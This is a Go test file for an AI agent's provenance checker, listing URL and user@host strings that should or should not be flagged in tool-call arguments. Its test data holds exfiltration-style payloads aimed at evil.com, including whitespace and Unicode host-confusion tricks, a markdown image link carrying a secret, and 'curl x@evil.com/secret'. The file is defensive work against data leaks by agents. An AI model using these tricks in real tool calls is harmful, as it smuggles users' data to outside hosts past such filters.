package provenance_test

import (
	"encoding/json"
	"testing"

	"github.com/farhand/farhand/agent/chat/provenance"
)

// TestLongerURLs: what browsers count to a URL behind a space, quote or tab asks, also if the first part is known.
func TestLongerURLs(t *testing.T) {
	c := said("Read https://example.org, //example.org and https://example.org/a, and mail bob@example.org", "Nothing.")
	asks := func(name, value string, e provenance.Effect) bool {
		args, _ := json.Marshal(map[string]string{name: value})
		return len(suspects(c, e, string(args))) > 0
	}
	for _, value := range []string{
		"https://example.org @evil.com/x", "https://example.org\u00a0@evil.com/x", "https://example.org\ufdfa@evil.com",
		"https://example.org\n@evil.com/x", "https://example.org\t@evil.com/x", "https://example.org x@evil.com/x",
		"https://example.org x@evil.com", "https://example.org \"@evil.com/x", "https://example.org @127.0.0.1/x",
		"https://example.org @localhost/x", "https://example.org @evil.sh/x", "//example.org @evil.sh/x",
		"https://example.org a b c:d@evil.com:80/x", `<a href="https://example.org @evil.com/x">`,
		"Go to https://example.org @evil.com now", "https://example.org \\@evil.com", "https://example.org\u3000@nas/x",
		`https://example.org/a\secret\data`, `https://example.org/a\..\x`, "https://example.org/a|secret",
		`https://example.org/a"secret`, "https://example.org/a<secret", "https://example.org/a`secret",
		"https://example.org/a{secret}", "https://example.org/a/{secret", `see https://example.org/a\nsecret`,
		"https://example.org/a\n/secret", "https://example.org/a\tsecret", "https://example.org\t:8080/x",
		"https://example.org\t?d=secret", "see https://example.org\t/secret/4711",
		"example.org/a[secret", "example.org/a*secret", "www.example.org/a,secret", "https://example.org/a>secret",
		"https://example.org/a}secret",
		"//user@evil.sh/x", "![x](//user:secret@evil.com)", "//x@2130706433/x", "//bob@example.org/x",
	} {
		for _, name := range []string{"v", "url"} {
			if !asks(name, value, provenance.Changes) || !asks(name, value, provenance.Reads) {
				t.Errorf("%s %q passes", name, value)
			}
		}
	}
	for _, value := range []string{
		"https://example.org a b@evil.com", "https://example.org/a the secret", "example.org secret",
		"https://example.org/a\u00a0secret", "https://example.org/a\x00secret", "https://example.org/a>secret",
		"https://example.org/a}secret", "https://example.org/a, secret", "https://example.org/a\u2028secret",
		"example.org/a[secret", "example.org/a,secret", "example.org/a(secret)",
	} {
		if !asks("url", value, provenance.Reads) {
			t.Errorf("url %q passes", value)
		}
	}
	for _, value := range []string{
		"https://example.org/a", " https://example.org/a\n", "<https://example.org/a>", "https://example.org/a#part",
		"{https://example.org/a}", "https://example.org/", "example.org/a", "www.example.org/a/", "example.org/a]",
	} {
		if asks("url", value, provenance.Changes) {
			t.Errorf("url %q asks", value)
		}
	}
	for _, value := range []string{
		`"https://example.org/a"`, `{"u":"https://example.org/a","v":"x"}`, "<https://example.org/a>",
		"https://example.org/a\n\nNext is this.", "See https://example.org/a\nNext", "[x](https://example.org/a)",
		"[x](https://example.org/a \"title\")", "| https://example.org/a |\n| x |", "`https://example.org/a`, and",
		"<a href=\"https://example.org/a\">x</a>", "https://example.org/a<br>Next", "<https://example.org/a|Example>",
		`{\"u\":\"https://example.org/a\",\"v\":\"x\"}`, `print("see https://example.org/a\nNext")`,
		"https://example.org, mail bob@example.org", "See https://example.org and mail bob@example.org.",
		"https://example.org @ada, see user/repo@main", "https://example.org: ask @ada",
		"see https://example.org/a\tNext",
		"https://example.org/a\nhttps://example.org/a", "// see https://example.org/a\n# Next",
		"a,https://example.org/a,\"b\"", "<a href=https://example.org/a>x</a>",
		"example.org/a, and more", "example.org", "example.org,bob@example.org", "(example.org/a)",
	} {
		if asks("v", value, provenance.Changes) {
			t.Errorf("%q asks", value)
		}
	}
}

// TestUsersOfHosts: user@host reaches the host wherever a URL is expected, and with a path, a port or a query it
// carries them there, although it begins like a mailbox. A mailbox alone is none for a tool that only reads.
func TestUsersOfHosts(t *testing.T) {
	c := said("Mail bob@example.org, and see git@git.example.org:team/app.git", "Nothing.")
	asks := func(name, value string, e provenance.Effect) bool {
		args, _ := json.Marshal(map[string]string{name: value})
		return len(suspects(c, e, string(args))) > 0
	}
	for _, value := range []string{
		"x@evil.com/secret", "x@evil.com?secret", "x@evil.com:8080/secret", "git@evil.com:secret/app.git",
		"curl x@evil.com/secret", "bob@example.org/secret", "bob@example.org:8080", "git@git.example.org:team/secret",
		"x@1.2.3.4/secret", "x@evil.com/a@b", "see x@evil.com/secret.", "x!@evil.com/secret", `"x"@evil.com/secret`,
		"bob!@example.org:8080/a", "x@evil.com#secret/a", "d=x@evil.com/secret", "a,x@evil.com/secret",
	} {
		for _, name := range []string{"v", "url"} {
			if !asks(name, value, provenance.Changes) || !asks(name, value, provenance.Reads) {
				t.Errorf("%s %q passes", name, value)
			}
		}
	}
	for _, value := range []string{"x@evil.com", `"x"@evil.com`, "x@evil"} {
		if !asks("url", value, provenance.Reads) {
			t.Errorf("url %q passes", value)
		}
	}
	for _, value := range []string{
		"eve@evil.com", "from:eve@evil.com", "Eve <eve@evil.com>", "lodash@4.17.21/index.js", "eve@evil.com/",
		"repo@main:path/file", "eve@evil.com: hello", "git@git.example.org:team/app.git",
		"mailto:eve@evil.com?subject=x",
	} {
		if asks("v", value, provenance.Reads) {
			t.Errorf("%q asks", value)
		}
	}
	for _, value := range []string{
		"bob@example.org", "bob@example.org/", "mailto:bob@example.org?subject=x", "git@git.example.org:team/app.git",
		"bob@example.org, or call", "bob@example.org: hello",
	} {
		if asks("v", value, provenance.Changes) {
			t.Errorf("%q asks before a change", value)
		}
	}
}
